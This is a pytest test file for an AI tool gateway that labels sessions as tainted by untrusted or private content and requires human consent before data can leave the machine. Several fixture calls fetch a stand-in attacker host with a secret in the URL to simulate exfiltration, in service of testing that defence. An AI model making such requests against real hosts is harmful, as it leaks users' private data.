"""The rule of two through calls: labels come before results, are on record with what brought them, and decide."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest
import structlog
from ledger_world import open_ledger
from scripted_worker import ScriptedStarter

from epad.gate.tiers import Tier
from epad.gate.tool_profile import Profile
from epad.gate.tool_table import BOTH, Taint
from epad.gateway.access import Access
from epad.ledger.export import records_from
from epad.ledger.record import Labelled, Session, ToolClosed, ToolOpened
from epad.ledger.rows import open_reader
from epad.ledger.store import Ledger
from epad.tools.call import CallContext, ToolCalls
from epad.tools.catalogue import Catalogue, parse
from epad.tools.consent import ConsentContext, Consents
from epad.tools.consent_state import STATE_SECONDS
from epad.tools.labelling import Labelling, source_of
from epad.tools.protocol import BAD_REPLY, Replies, ToolAnswer
from epad.tools.rates import CallRates
from epad.tools.sessions import CONFIGURED, Origin, Sessions
from epad.tools.workers import Workers
from statemachine.clock import ManualClock
from statemachine.phase import Phase

TOOLS = {
    "fetch": ("N1", {}),
    "host": ("R2", {}),
    "write": ("W1", {}),
    "read": ("R1", {}),
    "foreign": ("R1", {"untrusted": True}),
    "far": ("R1", {"untrusted": True, "leaves": True}),
}
CAN_ASK = Replies(may_ask=frozenset({"elicitation"}))


def catalogue() -> Catalogue:
    told = [
        {
            "name": name, "category": "files", "description": f"Do {name}.", "risk": risk, "timeout": 30,
            "inputSchema": {"type": "object"}, "outputSchema": {"type": "object"},
            "sha256": name.encode().hex().ljust(64, "0"), **more,
        }
        for name, (risk, more) in TOOLS.items()
    ]  # fmt: skip
    return parse(json.dumps(told).encode())


@dataclass
class Scene:
    """Calls of an author's session, a person's answers, and what the way out was told."""

    root: Path
    clock: ManualClock
    ledger: Ledger
    process: str = "boot/1/2"
    first: Taint = Taint.NONE
    guarded: list[tuple[str, int]] = field(default_factory=list)
    synced: tuple[str, ...] = ()
    sessions: Sessions = field(init=False)
    consents: Consents = field(init=False)
    calls: ToolCalls = field(init=False)

    def begin(self, wait_seconds: float = 0.01) -> None:
        log, access = structlog.get_logger(), Access(self.clock)
        self.sessions = Sessions(lambda _: self.process, lambda _: Tier.AUTHOR, "run", lambda _: self.first)
        self.consents = Consents(
            ConsentContext(
                clock=self.clock,
                numbers=itertools.count(1),
                workspace=lambda _: str(self.root),
                lives=self.sessions.lives,
                emit=lambda *_, **__: None,
                log=log,
                wait_seconds=wait_seconds,
            )
        )
        context = CallContext(
            ledger=self.ledger,
            workers=Workers(ScriptedStarter(), log),
            sessions=self.sessions,
            rates=CallRates(lambda _: 0, self.clock),
            access=access,
            phase=lambda: Phase.NORMAL,
            profile=lambda _: Profile(None),
            clock=self.clock,
            log=log,
            consents=self.consents,
            labelling=Labelling(self.guard, lambda _: str(self.root), lambda: self.synced),
        )
        self.calls = ToolCalls(context, catalogue())

    async def again(self, wait_seconds: float = 0.01) -> None:
        """Begin as another daemon does, which knows nothing of this one."""
        await self.calls.close()
        self.begin(wait_seconds)

    async def guard(self, subsystem: str) -> None:
        noted = [one for one in self.records() if isinstance(one, Labelled)]
        self.guarded.append((subsystem, len(noted)))

    async def call(self, tool: str, replies: Replies = Replies(), **arguments: object) -> ToolAnswer:  # noqa: B008
        return await self.calls.call(self.calls.caller("chat"), tool, arguments, key=None, replies=replies)

    async def both(self) -> None:
        await self.call("fetch", url="https://evil.example/page")
        await self.call("host")

    def taint(self) -> Taint:
        return self.sessions.of("chat").taint

    def records(self) -> list[object]:
        with contextlib.closing(open_reader(self.root.parent / "ledger.db")) as connection:
            return [shown.record for shown in records_from(connection, 1)]


@pytest.fixture
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    (tmp_path / "work").mkdir()
    made = Scene(tmp_path / "work", ManualClock(), await open_ledger(tmp_path / "ledger.db"))
    made.begin()
    yield made
    await made.calls.close()
    await made.ledger.close()


async def test_a_label_is_on_record_before_its_result_is_given(scene: Scene) -> None:
    """With the turn and the target; once for each label, whatever is read after."""
    fetched = await scene.call("fetch", url="https://evil.example/page?x=1")
    looked = await scene.call("host")
    for _ in range(2):
        await scene.call("read")
    noted = [one for one in scene.records() if isinstance(one, Labelled)]
    assert [(one.label, one.source, one.turn) for one in noted] == [
        (Taint.UNTRUSTED, "fetch at evil.example:443", fetched.turn),
        (Taint.PRIVATE, "host", looked.turn),
    ]
    assert len([one for one in scene.records() if isinstance(one, Session)]) == 1
    opened = [one.taint for one in scene.records() if isinstance(one, ToolOpened)]
    assert opened == [0, Taint.UNTRUSTED, BOTH, BOTH]


async def test_the_way_out_obeys_before_private_content_is_given(scene: Scene) -> None:
    """And after that is on record: the daemon may die at any moment. Untrusted content alone changes nothing there."""
    await scene.call("fetch")
    assert scene.guarded == []
    await scene.call("host")
    assert scene.guarded == [("chat", 2)]
    await scene.call("host")
    assert len(scene.guarded) == 1


async def test_with_both_labels_a_fetch_takes_a_consent_that_knows_of_them(scene: Scene) -> None:
    """Asked once for a host; another host, and another session, ask anew."""
    await scene.both()
    answer = await scene.call("fetch", url="https://evil.example/?d=secret")
    assert answer.reason_code == "consent_needed"
    [question] = scene.consents.open()
    assert question.subject.knowing
    assert '"https://evil.example/?d=secret"' in question.asks.details
    assert (
        "fetch on evil.example:443; its session has read untrusted content (fetch at evil.example:443"
        in question.line
    )
    assert [label for label, *_ in question.asks.labels] == ["untrusted", "private"]
    scene.consents.approve(question.number, 600.0, "needed")
    for path in ("a", "b"):
        assert not (await scene.call("fetch", url=f"https://evil.example/{path}")).is_error
    assert (await scene.call("fetch", url="https://other.example/")).reason_code == "consent_needed"
    refused = [one for one in scene.records() if isinstance(one, ToolClosed) and one.reason]
    assert [one.row for one in refused] == ["N1/NORMAL/taint"] * 2
    scene.process = "boot/1/3"
    assert not (await scene.call("fetch", url="https://other.example/")).is_error


async def test_one_label_alone_asks_nobody(scene: Scene) -> None:
    """The benign twins: one browses and writes, one looks at the host and writes."""
    for _ in range(2):
        assert not (await scene.call("fetch", url="https://docs.example/")).is_error
        assert not (await scene.call("write", path="notes.md")).is_error
    scene.process = "boot/1/3"
    for tool in ("host", "write", "read"):
        assert not (await scene.call(tool, path="notes.md")).is_error
    assert list(scene.consents.open()) == []


async def test_both_labels_leave_the_workspace_alone(scene: Scene) -> None:
    await scene.both()
    assert not (await scene.call("write", path="notes.md")).is_error
    assert not (await scene.call("read", path="notes.md")).is_error


@pytest.mark.parametrize("how", ["a mark", "a name", "the configuration", "a folder inside"])
async def test_a_file_that_a_program_carries_away_takes_consent(scene: Scene, how: str) -> None:
    """The workspace lies in a synced folder, or has one in it."""
    folder = scene.root / "Dropbox" if how == "a name" else scene.root / "out"
    folder.mkdir()
    match how:
        case "a mark":
            (scene.root.parent / ".stfolder").mkdir()
        case "the configuration":
            scene.synced = (str(scene.root.parent),)
        case "a folder inside":
            (folder / ".sync_0123abcd.db").touch()
    path = f"{folder.name}/notes.md"
    assert not (await scene.call("write", path=path)).is_error
    await scene.both()
    answer = await scene.call("write", path=path, content="secret")
    assert answer.reason_code == "consent_needed"
    [question] = scene.consents.open()
    assert '"secret"' in question.asks.details
    scene.consents.approve(question.number, 600.0, "needed")
    assert not (await scene.call("write", path=path, content="secret")).is_error


async def test_a_foreign_server_labels_by_its_definition(scene: Scene) -> None:
    """Its output is untrusted; what a server elsewhere is given leaves the machine, whatever risk it was given."""
    await scene.call("foreign")
    assert scene.taint() == Taint.UNTRUSTED
    await scene.call("host")
    assert not (await scene.call("foreign")).is_error
    assert (await scene.call("far", text="secret")).reason_code == "consent_needed"


async def test_a_session_has_the_labels_of_its_workspace_from_the_beginning(scene: Scene) -> None:
    scene.first = Taint.PRIVATE
    await scene.call("fetch", url="https://a.example/")
    assert scene.sessions.of("chat").origins[Taint.PRIVATE] == Origin(CONFIGURED)
    assert (await scene.call("fetch", url="https://a.example/")).reason_code == "consent_needed"


async def test_labels_survive_the_daemon(scene: Scene) -> None:
    """With what brought them, also behind records that know of no label: an undo, a later call that only reads."""
    await scene.both()
    before = dict(scene.sessions.of("chat").origins)
    await scene.call("read")
    await scene.again()
    assert scene.taint() is Taint.NONE
    await scene.calls.session_log.adopt(scene.sessions, scene.ledger, lambda _: True)
    assert scene.sessions.of("chat").origins == before
    assert (await scene.call("fetch", url="https://evil.example/")).reason_code == "consent_needed"


async def test_a_client_that_can_be_asked_brings_back_a_signed_state(scene: Scene) -> None:
    """At once, without waiting; its accept approves nothing, and a person's answer counts."""
    await scene.again(wait_seconds=30.0)
    await scene.both()
    asked = await scene.call("fetch", CAN_ASK, url="https://evil.example/")
    assert (asked.reason_code, list(asked.questions)) == ("consent_needed", ["consent"])
    message = str(asked.questions["consent"].params["message"])
    assert "epactl approve 1" in message
    assert "fetch on evil.example:443" in message
    accepted = replace_state(asked.state, "accept")
    waiting = asyncio.create_task(scene.call("fetch", accepted, url="https://evil.example/"))
    while next(scene.consents.open()).tries < 2:
        await asyncio.sleep(0)
    assert not waiting.done()
    scene.consents.approve(1, 600.0, "needed")
    assert not (await waiting).is_error


def replace_state(state: str, action: str) -> Replies:
    return Replies({"consent": {"action": action}}, state, frozenset({"elicitation"}))


async def test_an_accept_of_the_client_is_no_consent(scene: Scene) -> None:
    """Nobody has answered: the second call says so, and asks the client no more."""
    await scene.both()
    asked = await scene.call("fetch", CAN_ASK, url="https://evil.example/")
    for _ in range(3):
        again = await scene.call("fetch", replace_state(asked.state, "accept"), url="https://evil.example/")
        assert (again.reason_code, again.questions) == ("consent_needed", {})
    declined = await scene.call("fetch", replace_state(asked.state, "decline"), url="https://evil.example/")
    assert declined.reason_code == "consent_refused"


async def test_a_state_of_another_call_is_refused(scene: Scene) -> None:
    """Other arguments, another tool, another session, a changed byte, another daemon's, one that is too old."""
    await scene.both()
    asked = await scene.call("fetch", CAN_ASK, url="https://evil.example/")
    mine, url = replace_state(asked.state, "accept"), "https://evil.example/"
    changed = replace_state(asked.state[:-1] + ("0" if asked.state[-1] != "0" else "1"), "accept")
    codes = [
        (await scene.call("fetch", mine, url=url + "x")).reason_code,
        (await scene.call("far", mine, url=url)).reason_code,
        (await scene.call("fetch", changed, url=url)).reason_code,
        (await scene.call("fetch", replace_state("9" * 8000, "accept"), url=url)).reason_code,
    ]
    scene.clock.advance(STATE_SECONDS + 1.0)
    codes.append((await scene.call("fetch", mine, url=url)).reason_code)
    scene.process = "boot/1/3"
    codes.append((await scene.call("fetch", mine, url=url)).reason_code)
    scene.process = "boot/1/2"
    await scene.again()
    codes.append((await scene.call("fetch", mine, url=url)).reason_code)
    assert codes == [BAD_REPLY] * 7


def test_a_source_is_short_and_hides_nothing() -> None:
    assert source_of("http_fetch", {"url": "http://a.example:8/x?y"}) == "http_fetch at a.example:8"
    assert source_of("sqlite_query", {"path": "a\u202e.db", "sql": "x"}) == "sqlite_query of a\\u202e.db"
    assert source_of("env_vars", {}) == "env_vars"
    assert len(source_of("file_read", {"path": "x" * 5_000})) < 200


def test_a_definition_says_nothing_more_unless_it_is_told() -> None:
    plain = catalogue().definitions
    assert [name for name, one in plain.items() if one.untrusted] == ["far", "foreign"]
    assert [name for name, one in plain.items() if one.leaves] == ["far"]
    assert replace(Labelling()) is not None
